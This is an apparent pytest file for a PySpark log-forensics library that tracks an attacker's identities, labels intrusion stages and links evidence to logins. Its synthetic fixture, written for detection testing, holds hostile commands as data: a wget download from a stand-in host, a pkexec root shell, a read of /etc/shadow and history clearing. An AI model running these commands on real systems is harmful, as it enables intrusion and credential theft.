"""Identities of an attacker, gaps beside evidence, and positions and neighbours over ranges."""

import random

import pytest
from pyspark.sql import functions as F

from tidelog.functions import parse_time
from tidelog.logframe import LogFrame
from tidelog.operators import gaps, identity, incident
from tidelog.operators.running import neighbours, positions, running_sums

FIELDS = ("event_type", "username", "source_ip", "action", "process_name", "command", "message", "uid", "euid", "auid", "pid", "ppid", "audit_serial", "audit_session")


def log(spark, rows):
    full = [(k, r.get("ts", "2024-01-01T00:00:00Z"), *(r.get(f) for f in FIELDS)) for k, r in enumerate(rows)]
    df = spark.createDataFrame(full, "pos long, ts string, " + ", ".join(f"{f} string" for f in FIELDS)).withColumn("ts", parse_time(F.col("ts")))
    return LogFrame(df.withColumn("us", F.unix_micros("ts")), FIELDS)


def intrusion():
    """All at one time: failures, a login, tools, an exploit, root, and rows of others."""
    rows = [{"action": "failed_login", "username": "bob", "source_ip": "198.51.100.7"} for _ in range(12)]
    rows += [{"action": "failed_login", "username": "amy", "source_ip": "10.0.0.2"} for _ in range(3)]
    rows += [{"action": "successful_login", "username": "bob", "source_ip": "198.51.100.7", "uid": "1001", "auid": "1001"}]
    rows += [{"action": "command_exec", "uid": "1001", "euid": "1001", "auid": "1001", "command": c} for c in ("wget http://h.example/x.tgz", "id", "gcc /tmp/e.c -o /tmp/e", "/usr/bin/pkexec /bin/sh")]
    rows += [{"action": "command_exec", "uid": "0", "euid": "0", "auid": "1001", "command": "cat /etc/shadow"}]
    rows += [{"action": "command_exec", "uid": "1001", "euid": "0", "auid": "2002", "command": "su - eve"}, {"action": "command_exec", "uid": "2002", "euid": "2002", "auid": "4294967295", "command": "history -c"}]
    return rows + [{"action": "command_exec", "uid": "3003", "euid": "0", "auid": "3003", "command": "uptime"}, {"action": "command_exec", "uid": "0", "euid": "0", "auid": "4294967295", "command": "cron"}]


def test_identities_are_learnt_over_several_steps(spark):
    frame = log(spark, intrusion())
    actor = identity.main_actor(frame)
    assert [tuple(r) for r in actor.collect()] == [("bob", "198.51.100.7")]
    found = lambda rounds: {r.identity for r in identity.learn(frame, actor, rounds).collect()}
    assert found(0) == {"1001"} and found(None) == found(1) == {"1001", "2002"}
    rows = {r.pos: r.reasons for r in identity.scope(frame, actor, identity.learn(frame, actor)).collect()}
    assert set(rows) == {*range(12), *range(15, 23)} and rows[0] == "source_ip,username" and rows[20] == "auid" and rows[22] == "euid,uid"
    stages = {r.pos: r.stage for r in incident.stages(frame).collect()}
    assert stages == {16: "download", 18: "payload", 19: "exploit", 20: "sensitive_read", 22: "anti_forensics"}


def test_nobody_failed_often(spark):
    frame = log(spark, [{"action": "failed_login", "username": "daemon", "uid": "1"}] * 2 + [{"username": None, "uid": None}])
    actor = identity.main_actor(frame)
    assert actor.count() == 0 and identity.learn(frame, actor).count() == 0
    assert identity.scope(frame, actor, identity.learn(frame, actor)).count() == 0


def test_long_chains_end(spark):
    rows = [{"action": "failed_login", "username": "u", "source_ip": "i"}] * 3 + [{"username": "u", "uid": "10"}] + [{"uid": str(k), "auid": str(k + 1)} for k in range(10, 16)]
    frame = log(spark, rows)
    assert {r.identity for r in identity.learn(frame, identity.main_actor(frame)).collect()} == {str(k) for k in range(10, 17)}


def test_gap_of_the_source_asks_for_the_user(spark):
    at = lambda s: f"2024-01-01T00:{s // 60:02}:{s % 60:02}Z"
    rows = [
        {"ts": at(600), "username": "bob", "process_name": "sudo", "pid": "7", "message": "evidence"},
        {"ts": at(590), "username": "Bob", "source_ip": "1.1.1.1", "action": "successful_login"},  # same user
        {"ts": at(595), "username": "amy", "source_ip": "2.2.2.2", "action": "successful_login"},  # another
        {"ts": at(901), "username": "bob", "source_ip": "3.3.3.3", "action": "successful_login"},  # too late
        {"ts": None, "username": "bob", "source_ip": "4.4.4.4", "action": "successful_login"},  # no time
        {"ts": at(600), "username": "bob", "action": "successful_login"},  # no source
        {"ts": at(605), "username": "bob", "source_ip": "1.1.1.1", "action": "successful_login"},  # alike
    ]
    frame = log(spark, rows)
    evidence = frame.df.where("pos = 0").select("pos")
    found = gaps.search(frame, evidence, "source")
    assert sorted(map(tuple, found.collect())) == [(1, 8, "username", False, 10_000_000), (6, 8, "username", False, 5_000_000)]
    assert [tuple(r) for r in gaps.representatives(frame, found, ["source_ip", "username", "action"]).collect()] == [(6, 8, 5_000_000, 2)]
    assert {r.pos for r in gaps.search(frame, evidence, "login").collect()} == {1, 2, 5, 6}
    with pytest.raises(ValueError):
        gaps.search(frame, evidence, "x")


def test_gap_of_the_process_goes_over_a_third_row(spark):
    rows = [
        {"event_type": "EXECVE", "pid": "7", "audit_serial": "55", "message": "evidence"},
        {"event_type": "SYSCALL", "pid": "7", "audit_session": "s1"},  # the bridge: no user
        {"event_type": "USER_LOGIN", "username": "bob", "audit_session": "s1"},  # over it
        {"event_type": "USER_LOGIN", "username": "eve", "audit_session": "s2"},  # no link
        {"event_type": "USER_LOGIN", "username": "amy", "pid": "7"},  # direct
    ]
    frame = log(spark, rows)
    found = {r.pos: (r.score, r.shared, r.bridged) for r in gaps.search(frame, frame.df.where("pos = 0").select("pos"), "process").collect()}
    assert found == {2: (12, "", True), 4: (10, "pid", False)}


@pytest.mark.parametrize("seed", range(3))
def test_positions_sums_and_neighbours(spark, seed):
    rng = random.Random(seed)
    rows = [(k, rng.choice([None, *range(6)]) if seed else 3, rng.choice([None, k, k]) if seed < 2 else None, rng.choice([None, 1, 5])) for k in range(120)]
    df = spark.createDataFrame(rows, "id long, key long, value long, n long").repartition(5)
    order = sorted(rows, key=lambda r: (r[1] is not None, r[1] or 0, r[0]))
    assert [r.id for r in positions(df, ["key", "id"], "at").orderBy("at").collect()] == [r[0] for r in order]
    got = {r.id: r.total for r in running_sums(df, ["key", "id"], {"total": "n"}).collect()}
    assert got == {r[0]: sum(x[3] or 0 for x in order[:k]) for k, r in enumerate(order)}
    near = {r.id: (r.before, r.after) for r in neighbours(df, ["key", "id"], "value").collect()}
    for k, r in enumerate(order):
        earlier, later = [x[2] for x in order[: k + 1] if x[2] is not None], [x[2] for x in order[k:] if x[2] is not None]
        assert near[r[0]] == (earlier[-1] if earlier else None, later[0] if later else None)
    assert positions(df.limit(0), ["key"]).count() == 0
